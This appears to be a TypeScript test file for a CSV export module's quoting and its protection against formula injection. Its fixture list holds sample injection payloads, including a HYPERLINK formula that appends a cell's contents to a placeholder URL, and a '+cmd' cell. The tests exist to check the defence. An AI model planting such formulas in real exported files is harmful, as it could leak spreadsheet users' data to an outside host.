import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import Papa from 'papaparse';
import { csvLine, neutralise, textCell, unneutralise } from '../cells';
import { copyBytesTransformer } from '../export/copy-bytes';

const FORMULAS = [
  '=HYPERLINK("http://x"&A1,"x")',
  '+cmd',
  '-2+3',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '=1,2',
];
const HARMLESS = ['plain', 'a=b', "'quoted", "'", 'Zoë', '1985-04-23', '', ' =x'];

/** The cells of one CSV record, as a spreadsheet or CSV parser reads them. */
const cellsOf = (line: string) => Papa.parse<string[]>(line.slice(0, -2)).data[0];

describe('CSV cells', () => {
  it('quotes only cells that need it, and a CSV parser reads every cell back', () => {
    const cells = [
      'plain',
      'a,b',
      'say "hi"',
      'two\nlines',
      'cr\rhere',
      ' edge',
      'end ',
      '',
      'Zoë',
    ];
    const line = csvLine(cells);
    assert.equal(line, 'plain,"a,b","say ""hi""","two\nlines","cr\rhere"," edge","end ",,Zoë\r\n');
    assert.deepEqual(cellsOf(line), cells);
  });

  it('puts an apostrophe before a cell starting with = + - @ tab or carriage return, and only there', () => {
    assert.deepEqual(
      cellsOf(csvLine(FORMULAS)),
      FORMULAS.map((f) => `'${f}`)
    );
    assert.deepEqual(cellsOf(csvLine(HARMLESS)), HARMLESS);
    assert.deepEqual(
      FORMULAS.map(neutralise),
      FORMULAS.map((f) => `'${f}`)
    );
    assert.deepEqual(HARMLESS.map(neutralise), HARMLESS);
  });

  it('writes numbers as text and null as an empty cell', () => {
    assert.equal(csvLine([12, null, undefined, -5]), "12,,,'-5\r\n");
  });

  it('neutralises once: a neutralised cell written again stays the same', () => {
    for (const f of FORMULAS) assert.equal(textCell(neutralise(f)), textCell(f));
  });

  it("writes a cell the same way on the export's byte path", () => {
    const transform = copyBytesTransformer(['text', 'text']);
    for (const value of [...FORMULAS, ...HARMLESS]) {
      // PostgreSQL's COPY text: tab and carriage return escaped.
      const copied = value.replace(/\t/g, '\\t').replace(/\r/g, '\\r');
      const bytes = Buffer.from(`${copied}\tx\n`);
      const out = transform(bytes, bytes.length - 1);
      assert.equal(Buffer.from(out.text).toString('utf8'), csvLine([value, 'x']), value);
    }
  });

  it('takes the apostrophe off a neutralised value read back, and nothing else', () => {
    for (const f of FORMULAS) assert.equal(unneutralise(neutralise(f)), f);
    for (const h of HARMLESS) assert.equal(unneutralise(h), h);
  });
});
